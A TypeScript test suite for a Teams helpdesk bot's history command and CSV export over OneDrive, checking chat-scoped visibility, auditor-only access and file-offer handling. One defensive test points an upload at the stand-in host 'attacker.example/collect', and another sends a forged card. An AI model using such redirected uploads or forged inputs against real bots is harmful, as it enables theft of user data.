import type { UserRequest } from '../../../src/core/approval/user-request';
import { FILE_CONSENT_CARD, FILE_INFO_CARD } from '../../../src/teams/file-consent';
import { BotHarness, cardText, cardVerbs, FABRIKAM, HELPDESK_CHANNEL, invokeCard, PARTNER_TENANT, type TeamsUser } from '../../support/bot-harness';
import { cardOf, teamsMessageSize, TEAMS_MESSAGE_LIMIT_BYTES, type ConnectorCall } from '../../support/recording-connector';
import { errorCodeOf } from '../../support/card-error-code';

/** "User Desk Approvers" in the sandbox (Ada, Cleo, Erin; not Ben): the auditor group for this suite. */
const AUDITORS = '44444444-0000-4000-8000-000000000005';
const GROUP_CHAT = '19:history-group-chat@thread.v2';

/**
 * `history` and its CSV export over HTTP, attacked the way a colleague in a shared chat would: whose requests a
 * person sees depends only on where they ask (their 1:1 chat, a channel, a group chat) and on the auditor group,
 * the CSV arrives as a file offer in the 1:1 chat (never as a message over Teams' size limit), and no answer
 * carries a password or a token.
 */
describe('history: scoped to where it is asked, exported as a file', () => {
  const bot = new BotHarness({ auditorGroupId: AUDITORS });
  let ada: TeamsUser; // User Administrator, auditor
  let ben: TeamsUser; // first line, not an auditor
  let cleo: TeamsUser; // approver, auditor
  let erin: TeamsUser; // never signed in here
  const password = 'Hist0ry!Secret#42';

  const groupActivity = (user: TeamsUser, fields: Record<string, unknown>) => ({
    ...bot.activity(user, fields),
    conversation: { id: GROUP_CHAT, conversationType: 'groupChat', isGroup: true, tenantId: PARTNER_TENANT },
  });
  const form = (userName: string) => ({ customerId: FABRIKAM, firstName: 'Kath', lastName: 'Johnson', userName, domain: 'fabrikam.example', usageLocation: 'US', passwordMode: 'generate', forceChangePassword: 'true' });
  const submit = (user: TeamsUser, userName: string, cardId: string) => ({
    type: 'invoke',
    name: 'adaptiveCard/action',
    replyToId: cardId,
    value: { action: { type: 'Action.Execute', verb: 'submitForm', data: { verb: 'submitForm', ...form(userName) } }, trigger: 'manual' },
  });

  beforeAll(async () => {
    await bot.start();
    [ada, ben, cleo, erin] = await Promise.all(['ada', 'ben', 'cleo', 'erin'].map((n) => bot.teamsUser(`${n}@contoso-partner.example`)));
    for (const u of [ada, ben, cleo]) await bot.signIn(u);
    // Ada's 1:1 chat: a draft and a created user (manual password, ticket).
    await bot.reviewNewUser(ada, 'hist.one');
    const requestId = await bot.reviewNewUser(ada, 'hist.two', { passwordMode: 'manual', password, ticket: 'INC-77' });
    await bot.execute(ada, 'create', { requestId }, 'hist-card');
    await bot.connector.waitFor(() => bot.connector.updates('hist-card').find((u) => cardText(cardOf(u)).includes('User created')));
    // Ben's 1:1 chat: a draft of his own.
    await bot.execute(ben, 'submitForm', form('hist.ben'));
    // The helpdesk channel: Ben raises one, Cleo rejects it.
    const raised = invokeCard(await bot.executeInChannel(ben, 'submitForm', form('hist.chan'), 'hist-ch-1'));
    const chanId = (raised.actions as Array<{ verb?: string; data?: { requestId?: string } }>).find((a) => a.verb === 'approve')?.data?.requestId;
    expect(invokeCard(await bot.executeInChannel(cleo, 'reject', { requestId: chanId, reason: 'Duplicate' }, 'hist-ch-1'))).toBeDefined();
    // A group chat: Ada raises one there.
    expect(invokeCard(await bot.post(groupActivity(ada, submit(ada, 'hist.group', 'hist-gc-1')))).actions).toBeDefined();
  });
  afterAll(() => bot.stop());

  type Where = 'personal' | 'channel' | 'group';
  const activityIn = (where: Where, user: TeamsUser, fields: Record<string, unknown>) =>
    where === 'channel' ? bot.channelActivity(user, fields) : where === 'group' ? groupActivity(user, fields) : bot.activity(user, fields);

  /** Everything the bot sent in answer to one message (replies and private messages), once it is quiet. */
  async function ask(user: TeamsUser, text: string, where: Where = 'personal'): Promise<ConnectorCall[]> {
    const before = bot.connector.sent().length;
    const res = await bot.post(activityIn(where, user, { type: 'message', text }));
    expect(res.status).toBe(200);
    await bot.connector.waitFor(() => bot.connector.sent().length > before);
    await bot.app.teams.background.drain();
    return bot.connector.sent().slice(before);
  }
  const textOf = (calls: ConnectorCall[]) => calls.map((c) => `${String(c.body.text ?? '')}\n${cardText(cardOf(c))}`).join('\n');
  const historyText = async (user: TeamsUser, text: string, where: Where = 'personal') => textOf(await ask(user, text, where));
  const consentOf = (calls: ConnectorCall[]) => {
    const call = calls.find((c) => (c.body.attachments as Array<{ contentType: string }> | undefined)?.some((a) => a.contentType === FILE_CONSENT_CARD));
    const attachment = (call?.body.attachments as Array<{ contentType: string; name: string; content: { sizeInBytes: number; description: string; acceptContext: { offerId: string } } }>)?.find(
      (a) => a.contentType === FILE_CONSENT_CARD,
    );
    return { call, attachment };
  };
  const names = ['hist.one@', 'hist.two@', 'hist.ben@', 'hist.chan@', 'hist.group@'];
  const seen = (text: string) => names.filter((n) => text.includes(n));
  /** The error codes of the cards among `calls`, in order. */
  const codesOf = (calls: ConnectorCall[]) => calls.map((c) => errorCodeOf(cardOf(c))).filter((c) => c !== undefined);

  /** Accepts a file offer like Teams does: an upload session in the person's OneDrive, then fileConsent/invoke. */
  async function accept(user: TeamsUser, offer: { name: string; content: { acceptContext: { offerId: string } } }, uploadUrl?: string) {
    const session = bot.connector.uploadSession(offer.name);
    const uploads = bot.connector.uploads.length;
    const before = bot.connector.sent().length;
    const res = await bot.invoke(user, 'fileConsent/invoke', { type: 'fileUpload', action: 'accept', context: offer.content.acceptContext, uploadInfo: { ...session, uploadUrl: uploadUrl ?? session.uploadUrl } });
    await bot.connector.waitFor(() => bot.connector.sent().length > before);
    await bot.app.teams.background.drain();
    return { res, session, uploads: bot.connector.uploads.slice(uploads), replies: bot.connector.sent().slice(before) };
  }

  describe('who sees what (issue 12, point 5)', () => {
    it('1:1 chat: my own requests and the ones I decided, nobody else\'s', async () => {
      const mine = await historyText(ada, 'history');
      expect(mine).toContain('Your requests and the ones you decided');
      expect(seen(mine)).toEqual(['hist.one@', 'hist.two@', 'hist.group@']);
      expect(mine.indexOf('hist.two@')).toBeLessThan(mine.indexOf('hist.one@'));
      expect(seen(await historyText(cleo, 'history'))).toEqual(['hist.chan@']); // she rejected it
      expect(seen(await historyText(ben, 'history'))).toEqual(['hist.ben@', 'hist.chan@']);
    });

    it('group chat: Ben sees the requests raised there, not Ada\'s 1:1 requests nor another team\'s', async () => {
      for (const command of ['history', 'history fabrikam', `history since ${new Date().toISOString().slice(0, 10)}`, 'history kath']) {
        const text = await historyText(ben, command, 'group');
        expect(text).toContain('Requests raised in this conversation');
        expect(seen(text)).toEqual(command === 'history kath' ? [] : ['hist.group@']);
      }
    });

    it('channel: the requests raised in that channel, from any thread of it', async () => {
      expect(seen(await historyText(ada, 'history', 'channel'))).toEqual(['hist.chan@']);
      const thread = bot.channelActivity(ada, { type: 'message', text: 'history' });
      const before = bot.connector.sent().length;
      await bot.post({ ...thread, conversation: { ...(thread.conversation as object), id: `${HELPDESK_CHANNEL};messageid=1234` } });
      const reply = await bot.connector.waitFor(() => bot.connector.sent()[before]);
      expect(seen(cardText(cardOf(reply)))).toEqual(['hist.chan@']);
    });

    it('everything: only auditors, only in a 1:1 chat', async () => {
      expect(seen(await historyText(ada, 'history all'))).toEqual(names);
      expect(codesOf(await ask(ben, 'history all'))).toEqual(['NOT_AUDITOR']);
      expect(seen(await historyText(ben, 'history all fabrikam'))).toEqual([]);
      for (const where of ['group', 'channel'] as const) {
        const calls = await ask(ada, 'history all', where);
        expect(codesOf(calls)).toEqual(['PERSONAL_CHAT_ONLY']);
        expect(seen(textOf(calls))).toEqual([]);
        expect(codesOf(await ask(ada, 'history all csv', where))).toEqual(['PERSONAL_CHAT_ONLY']);
      }
      const membership = (await bot.sandboxState()).requests.filter((r) => r.path === '/v1.0/me/checkMemberGroups' && JSON.stringify(r.body).includes(AUDITORS));
      expect(membership.length).toBeGreaterThanOrEqual(2);
    });

    it('filtered by customer and by days; a date that is not one gets a clear answer', async () => {
      const today = new Date().toISOString().slice(0, 10);
      expect(seen(await historyText(ada, `history fabrikam since ${today}`))).toEqual(['hist.one@', 'hist.two@', 'hist.group@']);
      expect(seen(await historyText(ada, 'history since 2099-01-01'))).toEqual([]);
      expect(await historyText(ada, 'history northwind')).toContain('The last 0 requests');
      expect(await historyText(ada, 'history since 2026-02-30')).toContain('"2026-02-30" is not a date');
      expect(await historyText(ada, 'history since 2026-11-05 until 2026-11-01')).toContain('"since" must be on or before "until"');
    });
  });

  describe('in a channel without a session (issue 17, point 6)', () => {
    it('a button that signs in through Universal Actions, never an OAuth card or a "misconfigured" notice', async () => {
      const calls = await ask(erin, 'history fabrikam', 'channel');
      expect(calls).toHaveLength(1);
      const card = cardOf(calls[0])!;
      expect(JSON.stringify(calls[0].body.attachments)).not.toContain('oauth');
      expect(cardText(card)).not.toMatch(/manifest|misconfigured/i);
      expect(cardVerbs(card)).toEqual(['showHistory']);
      const action = (card.actions as Array<{ data: Record<string, unknown> }>)[0];
      expect(action.data.command).toBe('history fabrikam');

      // The click without a token asks Teams for one (loginRequest); the repeat with the token answers.
      const first = await bot.executeInChannel(erin, 'showHistory', action.data, 'hist-prompt');
      expect(first.body.statusCode).toBe(401);
      expect(first.body.type).toBe('application/vnd.microsoft.activity.loginRequest');
      const token = await bot.ssoToken(erin.upn);
      const shown = cardText(invokeCard(await bot.executeInChannel(erin, 'showHistory', action.data, 'hist-prompt', { authentication: { token } })));
      expect(shown).toContain('Requests raised in this conversation');
      expect(seen(shown)).toEqual(['hist.chan@']);
      // The scope comes from where the click is, not from the card: "all" on a forged card is still refused.
      expect(errorCodeOf(invokeCard(await bot.executeInChannel(erin, 'showHistory', { command: 'history all' }, 'hist-prompt')))).toBe('PERSONAL_CHAT_ONLY');
    });
  });

  describe('csv: a file offered in the 1:1 chat, uploaded to OneDrive (issue 17, point 7)', () => {
    it('1:1: consent card, accept, the bytes PUT to the upload session, then the file card; never a password', async () => {
      const calls = await ask(ada, 'history csv');
      const { call, attachment } = consentOf(calls);
      expect(call?.conversationId).toBe((bot.activity(ada, {}).conversation as { id: string }).id);
      expect(attachment?.name).toMatch(/^user-requests-mine-\d{4}-\d{2}-\d{2}\.csv$/);
      expect(String(call?.body.text)).not.toContain('request_id,'); // no CSV in the chat itself

      const { res, session, uploads, replies } = await accept(ada, attachment!);
      expect(res.status).toBe(200);
      expect(uploads).toHaveLength(1);
      expect(uploads[0].status).toBe(201);
      expect(uploads[0].headers.authorization).toBeUndefined();
      expect(Buffer.byteLength(uploads[0].text)).toBe(attachment!.content.sizeInBytes);
      const csv = uploads[0].text;
      expect(csv.split('\r\n')[0]).toMatch(/^request_id,created_at,state,customer_id/);
      expect(seen(csv)).toEqual(['hist.one@', 'hist.two@', 'hist.group@']);
      expect(csv).toContain('INC-77');
      expect(csv).not.toContain(password);
      expect(csv).not.toMatch(/eyJ[\w-]+\.[\w-]+\./);
      const info = (replies[0].body.attachments as Array<Record<string, any>>).find((a) => a.contentType === FILE_INFO_CARD);
      expect(info).toMatchObject({ name: session.name, contentUrl: session.contentUrl, content: { uniqueId: session.uniqueId, fileType: 'csv' } });

      // The same answer again (a second client, a replay): the offer is used up, nothing is uploaded twice.
      const again = await accept(ada, attachment!);
      expect(again.uploads).toHaveLength(0);
      expect(textOf(again.replies)).toContain('File offer expired');
    });

    it('someone else answering my offer, a declined offer and an upload URL outside OneDrive upload nothing', async () => {
      const stolen = consentOf(await ask(ada, 'history csv')).attachment!;
      const thief = await accept(ben, stolen);
      expect(thief.uploads).toHaveLength(0);
      expect(textOf(thief.replies)).toContain('File offer expired');
      // Ada can still take hers (Ben's try did not use it up).
      expect((await accept(ada, stolen)).uploads).toHaveLength(1);

      const declined = consentOf(await ask(ada, 'history csv')).attachment!;
      const before = bot.connector.uploads.length;
      const res = await bot.invoke(ada, 'fileConsent/invoke', { type: 'fileUpload', action: 'decline', context: declined.content.acceptContext });
      expect(res.status).toBe(200);
      expect(bot.connector.uploads.length).toBe(before);

      const elsewhere = consentOf(await ask(ada, 'history csv')).attachment!;
      const off = await accept(ada, elsewhere, 'https://attacker.example/collect');
      expect(off.uploads).toHaveLength(0);
      expect(codesOf(off.replies)).toEqual(['FILE_UPLOAD_FAILED']);

      expect((await bot.invoke(ada, 'fileConsent/invoke', { action: 'accept', context: { offerId: 'not-a-guid' } })).status).toBe(400);
    });

    it('group chat: the offer goes to my 1:1 chat and the file holds only what was raised in that chat', async () => {
      const calls = await ask(ben, 'history csv', 'group');
      expect(textOf(calls.filter((c) => c.conversationId === GROUP_CHAT))).toContain('I sent you the CSV file in our 1:1 chat');
      const { call, attachment } = consentOf(calls);
      expect(call?.conversationId).toBe(`a:1on1-${ben.teamsId}`);
      expect(attachment?.name).toMatch(/^user-requests-conversation-/);
      const { uploads } = await accept(ben, attachment!);
      expect(seen(uploads[0].text)).toEqual(['hist.group@']);
    });

    it('hundreds of long rows (≈300 KB): the file holds them all, and no message Teams would refuse is ever sent', async () => {
      // 400 more requests for Ada, straight into the bot's store, with long names and tickets (≈ 300 KB of CSV).
      const template = (await bot.app.useCases.requests.list({ requesterOid: ada.aadObjectId, limit: 1 }))[0];
      for (let i = 0; i < 400; i++) {
        const id = `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
        const at = new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString();
        const bulk: UserRequest = { ...template, id, createdAt: at, updatedAt: at, ticket: `INC-${'9'.repeat(40)}-${i}`, user: { ...template.user, userPrincipalName: `bulk.${i}.${'x'.repeat(60)}@fabrikam.example` }, card: undefined };
        await bot.app.useCases.requests.create(bulk);
      }
      const calls = await ask(ada, 'history csv');
      const { attachment } = consentOf(calls);
      expect(attachment!.content.sizeInBytes).toBeGreaterThan(TEAMS_MESSAGE_LIMIT_BYTES);
      const { uploads } = await accept(ada, attachment!);
      expect(uploads[0].text.split('\r\n')).toHaveLength(1 + 403);
      expect(uploads[0].text).toContain('bulk.399.');

      // The card stays within 20 rows; nothing sent in this whole suite was near Teams' limit.
      expect((await historyText(ada, 'history')).match(/\*\*[^*\s]+@fabrikam\.example\*\*/g)).toHaveLength(20);
      expect(bot.connector.refused).toEqual([]);
      for (const c of bot.connector.calls.filter((x) => x.body.type === 'message')) expect(teamsMessageSize(c.body)).toBeLessThan(TEAMS_MESSAGE_LIMIT_BYTES * 0.8);
      // (The password appears in one place only: Ada's own result card in her 1:1 chat, not in any file.)
      expect(bot.connector.uploads.filter((u) => u.text.includes(password))).toEqual([]);
    });

    it('the connector stand-in refuses a message over the limit like Teams (413 MessageSizeTooBig)', async () => {
      const res = await fetch(`${bot.connector.url}v3/conversations/a:x/activities`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ type: 'message', text: 'x'.repeat(60 * 1024) }),
      });
      expect(res.status).toBe(413);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe('MessageSizeTooBig');
      bot.connector.refused.splice(0);
    });
  });
});
